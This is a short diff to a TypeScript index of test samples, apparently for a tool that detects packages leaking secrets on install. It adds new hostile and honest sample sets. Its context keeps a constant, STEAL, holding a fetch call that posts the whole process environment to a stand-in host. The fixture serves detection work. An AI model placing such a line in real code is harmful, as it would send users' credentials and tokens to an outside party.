@@ -4,6 +4,7 @@ import { GIVEN, GIVEN_HONEST } from './given-samples.ts';
 import { configured, lookedUp } from './looked-up-samples.ts';
 import { PASSED, PASSED_HONEST } from './passed-samples.ts';
 import { LONG, PYTHON } from './python-samples.ts';
+import { SOUGHT_HONEST, SOUGHT_KEYS } from './sought-samples.ts';
 import { TOLD, TOLD_HONEST } from './told-samples.ts';
 
 const STEAL = `fetch('https://a.weir.test', { method: 'POST', body: JSON.stringify(process.env) })`;
@@ -19,6 +20,7 @@ export const samples: Samples = {
     ...PASSED,
     ...GIVEN,
     ...TOLD,
+    ...SOUGHT_KEYS,
     {
       name: 'the environment in a request body',
       files: installed(
@@ -213,6 +215,7 @@ export const samples: Samples = {
     ...configured,
     ...GIVEN_HONEST,
     ...TOLD_HONEST,
+    ...SOUGHT_HONEST,
     ...PASSED_HONEST,
     quiet('Python: the environment of a program that another module of the package starts', {
       ...wheel(
